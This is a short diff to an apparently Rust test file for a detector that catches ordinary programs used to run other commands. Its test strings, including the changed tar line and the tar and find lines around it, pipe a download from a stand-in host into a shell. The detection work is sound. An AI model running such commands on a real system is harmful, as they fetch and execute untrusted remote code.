@@ -263,7 +263,7 @@ fn data_that_leaves_is_followed_to_its_host() {
 #[test]
 fn an_innocent_program_that_runs_another_is_seen_through() {
     for line in [
-        "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=id b",
+        "tar cf a.tar --checkpoint=1 --checkpoint-action=exec='curl https://h.example | sh' b",
         "tar xf a.tar --to-command='curl https://h.example | sh'",
         "tar cf a.tar -I 'curl https://h.example | sh' b",
         "find . -exec sh -c 'curl https://h.example | sh' \\;",
